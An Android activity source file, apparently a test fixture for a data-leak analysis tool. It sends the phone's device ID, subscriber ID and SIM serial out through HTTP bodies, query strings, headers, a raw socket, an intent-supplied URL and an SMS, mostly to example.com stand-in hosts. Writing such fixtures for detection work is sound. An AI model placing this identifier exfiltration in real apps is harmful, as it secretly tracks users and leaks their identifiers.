package t;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.TelephonyManager;
import android.util.Log;

import java.io.*;
import java.net.*;

/** Connections know where they lead: written to, asked with, or told in a header. */
public class Network extends Activity {
    @Override protected void onCreate(Bundle saved) {
        TelephonyManager phone = (TelephonyManager) getSystemService("phone");
        try {
            written(phone);
            asked(phone);
            header(phone);
            unknownHost(phone, getIntent().getStringExtra("to"));
            read(phone);
            socket(phone);
            mailed(phone);
        } catch (IOException e) {
            return;
        }
    }

    void written(TelephonyManager phone) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://collect.example.com/a?b=1").openConnection();
        connection.setDoOutput(true);
        connection.getOutputStream().write(phone.getDeviceId().getBytes());
    }

    void asked(TelephonyManager phone) throws IOException {
        new URL("https://ask.example.com/x?id=" + phone.getDeviceId()).openStream().close();
    }

    void header(TelephonyManager phone) throws IOException {
        URLConnection connection = new URL("http://head.example.com").openConnection();
        connection.setRequestProperty("X-Id", phone.getDeviceId());
        connection.getInputStream();
    }

    void unknownHost(TelephonyManager phone, String where) throws IOException {
        OutputStream out = new URL(where).openConnection().getOutputStream();
        out.write(phone.getDeviceId().getBytes());
    }

    void read(TelephonyManager phone) throws IOException {
        phone.getDeviceId();
        HttpURLConnection connection = (HttpURLConnection) new URL("https://read.example.com/a").openConnection();
        Log.i("t", new BufferedReader(new InputStreamReader(connection.getInputStream())).readLine());
    }

    void socket(TelephonyManager phone) throws IOException {
        new Socket("raw.example.com", 80).getOutputStream().write(phone.getSubscriberId().getBytes());
    }

    void mailed(TelephonyManager phone) {
        SmsManager.getDefault().sendTextMessage("10086", null, phone.getSimSerialNumber(), null, null);
    }

    private static class SmsManager {
        static android.telephony.SmsManager getDefault() { return android.telephony.SmsManager.getDefault(); }
    }
}
